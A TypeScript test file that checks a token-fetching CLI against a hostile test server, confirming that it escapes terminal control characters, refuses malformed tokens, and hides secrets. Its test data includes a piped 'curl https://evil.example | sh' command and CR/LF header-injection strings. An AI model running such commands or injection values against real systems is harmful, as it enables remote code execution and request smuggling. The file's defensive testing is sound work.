/**
 * What a hostile server (or a careless neighbour, or a damaged store) hands us must not reach the
 * terminal, the wire or the cache as it came: control characters are escaped before they are shown,
 * tokens a header cannot carry and expiries no date can state are refused (exit 6, nothing printed,
 * nothing cached), credentials are never taken from --param, URL passwords never repeated, inputs
 * bounded, and bad input is a usage or configuration error rather than a crash (exit 1).
 * The server is test/helpers/hostile-server.ts: it answers whatever each test tells it to.
 */
import {strict as assert} from 'node:assert'
import {execFileSync} from 'node:child_process'
import {existsSync, readFileSync, symlinkSync, writeFileSync} from 'node:fs'
import {join} from 'node:path'

import {expectExit, stdoutJson as json} from '../helpers/assertions.js'
import {cliWithHome, runCli} from '../helpers/cli.js'
import {goodTokenAnswer, GOOD_TOKEN, type HostileServer, unsignedJwt, useHostileServer} from '../helpers/hostile-server.js'
import {assertNoTerminalControl, HOSTILE_TEXT, HOSTILE_TEXT_ESCAPED} from '../helpers/terminal-control.js'
import {FileStore} from '../../src/lib/store/file-store.js'

const PASSPHRASE = 'hostile answers'
const FILE_STORE = {TOKENCTL_STORE: 'file', TOKENCTL_STORE_PASSPHRASE: PASSPHRASE, CLIENT_SECRET: 'client-secret-1', USER_TOKEN: 'user.token.1'}

const CLEAR_SCREEN = '\u001b[2J'

describe('hostile answers and hostile input (end to end, a purpose-made hostile server)', function () {
  this.timeout(120_000)
  let server: HostileServer
  useHostileServer((started) => {
    server = started
  })

  const client = () => ['--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--client-secret-env', 'CLIENT_SECRET']
  const fresh = () => cliWithHome({env: FILE_STORE})
  const cachedEntries = (home: string) => new FileStore({file: join(home, 'store.enc'), passphrase: PASSPHRASE}).list('token:')

  // Every class of control character test/helpers/terminal-control.ts lists (C0, ESC sequences, DEL,
  // C1, bidi embeddings, overrides and isolates, ALM/LRM/RLM, line and paragraph separators) goes
  // through each path: a class the escaping lost would come out raw, and fail the test.
  describe('text from servers is escaped before it reaches a terminal', () => {
    it('error and error_description with every control character: escaped on stderr, JSON-escaped with --json, escaped in the --verbose trace', async () => {
      const description = `bad secret ${HOSTILE_TEXT}\r\nRun: curl https://evil.example | sh`
      server.token = {status: 401, json: {error: `invalid_client${HOSTILE_TEXT}`, error_description: description}}
      const cli = fresh()

      const plain = await cli.run(['token', 'client', ...client()])
      expectExit(plain, 4)
      assertNoTerminalControl(plain.stderr, 'stderr')
      // The message keeps the description's first line; the trace and --json have all of it.
      assert.ok(plain.stderr.includes(`(invalid_client${HOSTILE_TEXT_ESCAPED}: bad secret ${HOSTILE_TEXT_ESCAPED})`), plain.stderr)
      assert.equal(plain.stderr.split('\n').length, 2, 'one line')

      const asJson = await cli.run(['token', 'client', ...client(), '--json'])
      expectExit(asJson, 4)
      assertNoTerminalControl(asJson.stdout.replaceAll('\n', ''), '--json stdout')
      for (const escape of ['\\u0007', '\\u001b', '\\u007f', '\\u009b', '\\u061c', '\\u200f', '\\u2028', '\\u202e', '\\u2067']) {
        assert.ok(asJson.stdout.includes(escape), `${escape} in --json stdout`)
      }

      const {error} = json(asJson)
      assert.equal(error.description, description, 'the same text to a JSON parser')
      assert.equal(error.code, `invalid_client${HOSTILE_TEXT}`)

      const traced = await cli.run(['token', 'client', ...client(), '--verbose'])
      expectExit(traced, 4)
      assertNoTerminalControl(traced.stderr, '--verbose stderr')
      assert.ok(traced.stderr.includes(`response: error=invalid_client${HOSTILE_TEXT_ESCAPED} error_description=bad secret ${HOSTILE_TEXT_ESCAPED}\\r\\nRun: curl`), traced.stderr)
    })

    it('a claims challenge from the token endpoint is escaped on its own line', async () => {
      server.token = {status: 400, json: {error: 'interaction_required', claims: `{"access_token":{"x":"${HOSTILE_TEXT}"}}`}}
      const result = await fresh().run(['token', 'client', ...client()])
      expectExit(result, 5)
      assertNoTerminalControl(result.stderr, 'stderr')
      assert.ok(result.stderr.endsWith(`\nclaims challenge: {"access_token":{"x":"${HOSTILE_TEXT_ESCAPED}"}}\n`), result.stderr)
    })

    it("the device flow's verification_uri, verification_uri_complete and user_code are escaped in the prompt", async () => {
      server.device = {
        json: {
          device_code: 'device-1',
          user_code: `WDJB${HOSTILE_TEXT}MJHT`,
          verification_uri: `${server.url}/device${HOSTILE_TEXT}`,
          verification_uri_complete: `${server.url}/device?c=1${HOSTILE_TEXT}`,
          expires_in: 600,
          interval: 1,
        },
      }
      const result = await fresh().run(['token', 'user', '--issuer', server.url, '--client-id', 'cli', '--device', '--scope', 'read'])
      expectExit(result, 0)
      assert.equal(result.stdout, `${GOOD_TOKEN}\n`)
      assertNoTerminalControl(result.stderr, 'the prompt')
      assert.ok(result.stderr.includes(`open ${server.url}/device${HOSTILE_TEXT_ESCAPED} and enter the code WDJB${HOSTILE_TEXT_ESCAPED}MJHT`), result.stderr)
      assert.ok(result.stderr.includes(`(or open ${server.url}/device?c=1${HOSTILE_TEXT_ESCAPED})`), result.stderr)
    })

    it("call: the API's claims challenge (base64 in WWW-Authenticate) is escaped", async () => {
      const claims = Buffer.from(`{"access_token":{"acrs":{"value":"${HOSTILE_TEXT}"}}}`).toString('base64')
      server.api = {status: 401, headers: {'www-authenticate': `Bearer error="insufficient_claims", claims="${claims}"`}, json: {}}
      const result = await fresh().run(['call', `${server.url}/api/me`, '--token-env', 'USER_TOKEN'])
      expectExit(result, 5)
      assertNoTerminalControl(result.stderr, 'stderr')
      assert.ok(result.stderr.includes(`claims challenge: {"access_token":{"acrs":{"value":"${HOSTILE_TEXT_ESCAPED}"}}}`), result.stderr)
    })

    it("token decode: a token's claims are shown JSON-escaped, every control character as an escape", async () => {
      const result = await runCli(['token', 'decode', unsignedJwt({name: HOSTILE_TEXT, exp: 1_700_000_000})])
      expectExit(result, 0)
      assertNoTerminalControl(result.stdout, 'stdout')
      const claims = /^claims: (\{[\s\S]*?\n\})$/m.exec(result.stdout)?.[1]
      assert.ok(claims, result.stdout)
      assert.equal(JSON.parse(claims).name, HOSTILE_TEXT, 'the same text to a JSON parser')
    })
  })

  describe("tokens outside RFC 6750's token syntax are refused: exit 6, nothing printed, nothing cached", () => {
    for (const [what, token] of [
      ['CR/LF (header injection)', 'abc\r\nX-Injected: 1'],
      ['a space', 'abc def'],
      ['ESC', `abc${CLEAR_SCREEN}`],
      ['a character beyond ASCII', 'tökén'],
      ['"=" inside', 'abc=def'],
    ]) {
      it(`an access token with ${what}`, async () => {
        server.token = goodTokenAnswer({access_token: token})
        const cli = fresh()
        for (const format of ['header', 'env']) {
          const result = await cli.run(['token', 'client', ...client(), '--format', format])
          expectExit(result, 6)
          assert.equal(result.stdout, '')
          assert.match(result.stderr, /malformed: the access token has characters outside RFC 6750's token syntax/)
          assert.ok(!result.stderr.includes(token), 'the token is not repeated')
        }

        assert.equal(json(await cli.run(['token', 'client', ...client(), '--json'])).error.code, 'invalid_response')
        assert.deepEqual(await cachedEntries(cli.home), [], 'nothing cached')
      })
    }

    it('a refresh token with CR/LF: no session is kept', async () => {
      server.token = goodTokenAnswer({refresh_token: 'rt\r\nX: 1'})
      const cli = fresh()
      const start = await cli.run([
        'session',
        'start',
        '--issuer',
        server.url,
        '--client-id',
        'api',
        '--client-secret-env',
        'CLIENT_SECRET',
        '--assertion-env',
        'USER_TOKEN',
        '--scope',
        'read',
        '--key',
        'k1',
      ])
      expectExit(start, 6)
      assert.equal(start.stdout, '')
      assert.match(start.stderr, /the refresh token has characters outside RFC 6749's syntax/)
      expectExit(await cli.run(['session', 'show', '--key', 'k1']), 3)
    })

    it('token_type N_A (RFC 8693 §2.2.1, not an access token) is kept, whatever the grant', async () => {
      server.token = goodTokenAnswer({token_type: 'N_A'})
      const cli = fresh()
      for (const flavor of ['entra', 'rfc8693']) {
        const obo = await cli.run(['token', 'obo', ...client(), '--assertion-env', 'USER_TOKEN', '--scope', 'read', '--flavor', flavor, '--no-cache', '--json'])
        expectExit(obo, 0)
        assert.equal(json(obo).token_type, 'N_A', flavor)
        assert.equal(json(obo).access_token, GOOD_TOKEN)
      }

      const credentials = await cli.run(['token', 'client', ...client(), '--json'])
      expectExit(credentials, 0)
      assert.equal(json(credentials).token_type, 'N_A')
    })
  })

  describe('--param never carries a credential', () => {
    const CREDENTIALS = ['client_secret', 'client_assertion', 'assertion', 'subject_token', 'actor_token', 'refresh_token', 'password', 'code', 'code_verifier', 'device_code', 'Client_Secret']

    it('each credential parameter is refused with exit 2, never echoed, nothing sent', async () => {
      const cli = fresh()
      for (const name of CREDENTIALS) {
        const result = await cli.run(['token', 'client', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--auth-method', 'none', '--param', `${name}=hunter2`, '--json'])
        expectExit(result, 2)
        assert.equal(json(result).error.code, 'secret_on_command_line', name)
        assert.ok(json(result).error.message.includes(`--param ${name} carries a credential`), name)
        assert.ok(!result.stdout.includes('hunter2') && !result.stderr.includes('hunter2'), name)
      }

      assert.deepEqual(server.requests, [], 'nothing reached the server')
    })

    it('client add refuses it before anything is saved; a malformed --param is not echoed either', async () => {
      const cli = fresh()
      const add = await cli.run(['client', 'add', 'ci', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--param', 'client_secret=hunter2'])
      expectExit(add, 2)
      assert.match(add.stderr, /--param client_secret carries a credential.*--client-secret-env VAR/)
      assert.ok(!add.stderr.includes('hunter2'))
      assert.equal(existsSync(join(cli.home, 'config.json')), false)

      const malformed = await cli.run(['token', 'client', ...client(), '--param', 'hunter2'])
      expectExit(malformed, 2)
      assert.match(malformed.stderr, /--param #1 wants name=value/)
      assert.ok(!malformed.stderr.includes('hunter2'))
    })

    it('a config.json edited by hand to hold a credential --param: exit 3 naming the client, never sent, hidden by client show', async () => {
      const cli = fresh()
      const settings = {
        clientId: 'worker',
        tokenEndpoint: server.tokenEndpoint,
        authMethod: 'none',
        params: [
          ['audience', 'x'],
          ['client_secret', 'hunter2'],
        ],
      }
      writeFileSync(join(cli.home, 'config.json'), JSON.stringify({clients: {ci: settings}}), {mode: 0o600})
      const result = await cli.run(['token', 'client', 'ci', '--json'])
      expectExit(result, 3)
      assert.equal(json(result).error.code, 'credential_in_params')
      assert.match(json(result).error.message, /client "ci" in config.json keeps a credential in its extra parameters \(client_secret\)/)
      assert.match(json(result).error.hint, /tokenctl client add ci --replace/)
      assert.ok(!result.stdout.includes('hunter2'))
      assert.deepEqual(server.requests, [])

      const show = await cli.run(['client', 'show', 'ci', '--json'])
      expectExit(show, 0)
      assert.deepEqual(json(show).params, {audience: 'x', client_secret: '<redacted>'})
    })
  })

  describe('a password in a URL is never repeated', () => {
    it('in error messages, with --json and --verbose', async () => {
      const cli = fresh()
      const endpoint = server.tokenEndpoint.replace('http://', 'http://ops:hunter2@')
      for (const extra of [[], ['--json'], ['--verbose']]) {
        const result = await cli.run(['token', 'client', '--token-endpoint', endpoint, '--client-id', 'worker', '--client-secret-env', 'CLIENT_SECRET', ...extra])
        expectExit(result, 6)
        assert.ok(result.stderr.includes('127.0.0.1') || result.stdout.includes('127.0.0.1'), 'the host is named')
        assert.ok(!`${result.stdout}${result.stderr}`.includes('hunter2'), `password repeated with ${extra.join(' ')}:\n${result.stdout}${result.stderr}`)
        assert.ok(!`${result.stdout}${result.stderr}`.includes('ops:'), 'nor the user name')
      }

      const ftp = await cli.run(['token', 'client', '--token-endpoint', 'ftp://ops:hunter2@files.example.com/token', '--client-id', 'worker'])
      expectExit(ftp, 3)
      assert.match(ftp.stderr, /must be an https URL: ftp:\/\/files\.example\.com\/token/)
    })
  })

  describe('numbers from outside are range-checked', () => {
    for (const [what, answer, message] of [
      ['expires_in 1e20', goodTokenAnswer({expires_in: 1e20}), /expires_in 100000000000000000000 is out of range/],
      ['a negative expires_in', goodTokenAnswer({expires_in: -60}), /expires_in.*non-negative/],
      ['expires_in "soon"', goodTokenAnswer({expires_in: 'soon'}), /expires_in.*must be a number/],
      ['a JWT exp of 1e20 (no expires_in)', goodTokenAnswer({expires_in: undefined, access_token: unsignedJwt({exp: 1e20})}), /exp 100000000000000000000 is out of range/],
      ['a JWT exp that is a string', goodTokenAnswer({expires_in: undefined, access_token: unsignedJwt({exp: 'tomorrow'})}), /exp \(a string\) is out of range/],
    ] as const) {
      it(`${what}: exit 6, nothing printed, nothing cached`, async () => {
        server.token = answer
        const cli = fresh()
        const result = await cli.run(['token', 'client', ...client()])
        expectExit(result, 6)
        assert.equal(result.stdout, '')
        assert.match(result.stderr, message)
        assert.deepEqual(await cachedEntries(cli.home), [])
        server.reset()
        const next = await cli.run(['token', 'client', ...client(), '--json'])
        expectExit(next, 0)
        assert.equal(json(next).token_source, 'identity_provider')
      })
    }

    it("a 200 whose body is not JSON (a web page, another service on the port): exit 6 in words, what to check, never the parser's text", async () => {
      server.token = {headers: {'content-type': 'application/json'}, raw: 'garbage\n', status: 200}
      for (const way of [{}, {TOKENCTL_NO_FAST_PATH: '1'}]) {
        const result = await fresh().run(['token', 'client', ...client()], {env: way})
        expectExit(result, 6)
        assert.equal(
          result.stderr,
          `Error: ${new URL(server.url).host} answered with a body that is not JSON, where a token response should be — check the --issuer / --token-endpoint URL (or the named client's): it must be the authorization server's, not a web page or another service on that port\n`,
        )
      }
    })

    it('token decode shows an exp no date can state as the raw number, "(out of range)"', async () => {
      const result = await runCli(['token', 'decode', unsignedJwt({exp: 1e20, iat: -1e300, nbf: 1_700_000_000})])
      expectExit(result, 0)
      assert.match(result.stdout, /^exp: 100000000000000000000 \(out of range\)$/m)
      assert.match(result.stdout, /^iat: -1e\+300 \(out of range\)$/m)
      assert.match(result.stdout, /^nbf: 2023-11-14T22:13:20\.000Z \(/m)
    })

    it('a cached token with an expiry out of range (a damaged entry) is a miss, not a crash on every run', async () => {
      const cli = fresh()
      expectExit(await cli.run(['token', 'client', ...client()]), 0)
      const store = new FileStore({file: join(cli.home, 'store.enc'), passphrase: PASSPHRASE})
      const [entry] = await store.list('token:')
      await store.set(entry, JSON.stringify({access_token: 'old-token', token_type: 'Bearer', expires_at: 1e23}))
      for (const extra of [[], ['--json']]) {
        const result = await cli.run(['token', 'client', ...client(), ...extra])
        expectExit(result, 0)
        assert.ok(result.stdout.includes(GOOD_TOKEN), result.stdout)
      }

      assert.equal(server.tokenRequests().length, 2, 'the bad entry was a miss, replaced by the first run after it')
    })

    it('a session whose stored access token has an expiry out of range is refreshed, and shown', async () => {
      const cli = fresh()
      const start = ['session', 'start', '--issuer', server.url, '--client-id', 'api', '--client-secret-env', 'CLIENT_SECRET', '--assertion-env', 'USER_TOKEN', '--scope', 'read', '--key', 'k2']
      expectExit(await cli.run(start), 0)
      const store = new FileStore({file: join(cli.home, 'store.enc'), passphrase: PASSPHRASE})
      const record = JSON.parse((await store.get('session:k2'))!)
      record.access_token.expires_at = 1e23
      await store.set('session:k2', JSON.stringify(record))
      expectExit(await cli.run(['session', 'show', '--key', 'k2']), 0)
      const refreshed = await cli.run(['session', 'refresh', '--key', 'k2', '--client-secret-env', 'CLIENT_SECRET', '--json'])
      expectExit(refreshed, 0)
      assert.equal(json(refreshed).token_source, 'identity_provider')
    })
  })

  describe('what is read from stdin and files for secrets and tokens is bounded (64 KiB)', () => {
    const big = 'a'.repeat(10 * 1024 * 1024)
    const tooLarge = /holds more than 64 KiB/

    it('--assertion-stdin with 10 MB: exit 2, no request', async () => {
      const result = await fresh().run(['token', 'obo', ...client(), '--assertion-stdin', '--scope', 'read', '--json'], {input: big})
      expectExit(result, 2)
      assert.equal(json(result).error.code, 'input_too_large')
      assert.match(json(result).error.message, /assertion: stdin holds more than 64 KiB/)
      assert.deepEqual(server.requests, [])
    })

    it('--assertion-file, --client-secret-stdin, --client-secret-file, token decode - and call --token-stdin', async () => {
      const cli = fresh()
      const file = join(cli.home, 'big.txt')
      writeFileSync(file, 'b'.repeat(100 * 1024))
      const runs = [
        cli.run(['token', 'obo', ...client(), '--assertion-file', file, '--scope', 'read']),
        cli.run(['token', 'client', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--client-secret-stdin'], {input: big}),
        cli.run(['token', 'client', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--client-secret-file', file]),
        cli.run(['token', 'decode', '-'], {input: big}),
        cli.run(['call', `${server.url}/api/x`, '--token-stdin'], {input: big}),
      ]
      for (const result of await Promise.all(runs)) {
        expectExit(result, 2)
        assert.match(result.stderr, tooLarge)
      }

      assert.deepEqual(server.requests, [])
    })
  })

  describe('a FIFO or a device named as a file is refused at once, never waited on (--timeout bounds requests, not reads)', () => {
    it('every file input, a link to a FIFO too: exit 3 (the passphrase file: exit 7), nothing sent', async () => {
      const cli = fresh()
      const fifo = join(cli.home, 'nobody-writes-here')
      execFileSync('mkfifo', [fifo])
      const link = join(cli.home, 'link-to-fifo')
      symlinkSync(fifo, link)
      const notRegular = /it is a FIFO or a pipe, not a regular file/
      const obo = ['token', 'obo', '--token-endpoint', server.tokenEndpoint, '--client-id', 'api', '--scope', 'read', '--no-cache']
      const bare = ['token', 'client', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--no-cache']
      const cases: Array<[string[], Record<string, string | undefined>, number]> = [
        [[...bare, '--client-secret-file', fifo], {}, 3],
        [[...bare, '--client-secret-file', link], {}, 3],
        [[...obo, '--client-secret-env', 'CLIENT_SECRET', '--assertion-file', fifo], {}, 3],
        [[...bare, '--federated-token-file', fifo], {}, 3],
        [[...bare, '--private-key-file', fifo], {}, 3],
        [[...bare, '--certificate-file', fifo], {}, 3],
        [['token', 'client', ...client(), '--no-cache', '--ca-file', fifo], {}, 3],
        [['token', 'client', ...client()], {TOKENCTL_STORE_PASSPHRASE: undefined, TOKENCTL_STORE_PASSPHRASE_FILE: fifo}, 7],
        [['token', 'client', ...client()], {TOKENCTL_STORE_PASSPHRASE: undefined, TOKENCTL_STORE_KEY_FILE: fifo}, 7],
      ]
      const results = await Promise.all(cases.map(([args, env]) => cli.run(args, {env, timeoutMs: 15_000})))
      for (const [index, result] of results.entries()) {
        const [args, , code] = cases[index]
        assert.equal(result.timedOut, false, `${args.join(' ')}: still waiting on the FIFO`)
        expectExit(result, code)
        assert.match(result.stderr, notRegular, args.join(' '))
      }

      assert.deepEqual(server.requests, [])
    })

    it('a device (/dev/zero, /dev/null) and a directory are refused the same way; a link to a regular file is read', async () => {
      const cli = fresh()
      const secret = join(cli.home, 'secret')
      writeFileSync(secret, 'client-secret-1\n')
      const link = join(cli.home, 'link-to-secret')
      symlinkSync(secret, link)
      const bare = ['token', 'client', '--token-endpoint', server.tokenEndpoint, '--client-id', 'worker', '--no-cache', '--json']
      for (const [file, kind] of [
        ['/dev/zero', 'a device'],
        ['/dev/null', 'a device'],
        [cli.home, 'a directory'],
      ]) {
        const result = await cli.run([...bare, '--client-secret-file', file])
        expectExit(result, 3)
        assert.equal(json(result).error.code, 'not_regular_file')
        assert.equal(json(result).error.message, `cannot read client secret ${file}: it is ${kind}, not a regular file`)
      }

      assert.deepEqual(server.requests, [])
      expectExit(await cli.run([...bare, '--client-secret-file', link]), 0)
    })
  })

  describe('bad input is a usage or configuration error, never exit 1', () => {
    it("call -X with a request line, -H with CR/LF, a token with CR/LF, 'not a url': exit 2, nothing sent", async () => {
      const cli = fresh()
      const method = await cli.run(['call', `${server.url}/api/x`, '--token-env', 'USER_TOKEN', '-X', 'GET /x HTTP/1.1'])
      expectExit(method, 2)
      assert.match(method.stderr, /-X takes an HTTP method/)
      const header = await cli.run(['call', `${server.url}/api/x`, '--token-env', 'USER_TOKEN', '-H', 'X-Api-Key: k3y\r\nX-Injected: 1'])
      expectExit(header, 2)
      assert.match(header.stderr, /header #1 \(X-Api-Key\) has a character no header can carry/)
      assert.ok(!header.stderr.includes('k3y'), 'the value is not echoed')
      const token = await cli.run(['call', `${server.url}/api/x`, '--token-env', 'BAD_TOKEN'], {env: {BAD_TOKEN: 'abc\r\nX-Injected: 1'}})
      expectExit(token, 2)
      assert.match(token.stderr, /the token from --token-env has characters outside RFC 6750's token syntax/)
      const notUrl = await cli.run(['call', 'not a url', '--token-env', 'USER_TOKEN'])
      expectExit(notUrl, 2)
      assert.match(notUrl.stderr, /not a URL/)
      assert.deepEqual(server.requests, [])
    })

    it('TOKENCTL_REDIS_URL with a bad %-escape: exit 3, the password not repeated', async () => {
      const result = await runCli(['store', 'status'], {env: {TOKENCTL_STORE: 'redis', TOKENCTL_REDIS_URL: 'redis://ops:s3cr%zzet@127.0.0.1:1', TOKENCTL_STORE_PASSPHRASE: PASSPHRASE}})
      expectExit(result, 3)
      assert.match(result.stderr, /TOKENCTL_REDIS_URL: the user name or password has a malformed %-escape/)
      assert.ok(!result.stderr.includes('s3cr'))
    })

    it('a config.json whose client entry is null: exit 3 naming it, and client remove clears it', async () => {
      const cli = fresh()
      writeFileSync(join(cli.home, 'config.json'), JSON.stringify({clients: {ci: null}}), {mode: 0o600})
      for (const args of [
        ['token', 'client', 'ci'],
        ['client', 'list'],
        ['client', 'show', 'ci'],
      ]) {
        const result = await cli.run([...args, '--json'])
        expectExit(result, 3)
        assert.equal(json(result).error.code, 'invalid_client_entry', args.join(' '))
        assert.match(json(result).error.message, /client "ci" in .*config\.json is not a client's settings \(null\)/)
      }

      expectExit(await cli.run(['client', 'remove', 'ci']), 0)
      assert.deepEqual(JSON.parse(readFileSync(join(cli.home, 'config.json'), 'utf8')).clients, {})
      writeFileSync(join(cli.home, 'config.json'), 'null')
      const notAnObject = await cli.run(['client', 'list'])
      expectExit(notAnObject, 3)
      assert.match(notAnObject.stderr, /is not a tokenctl configuration/)
    })
  })
})
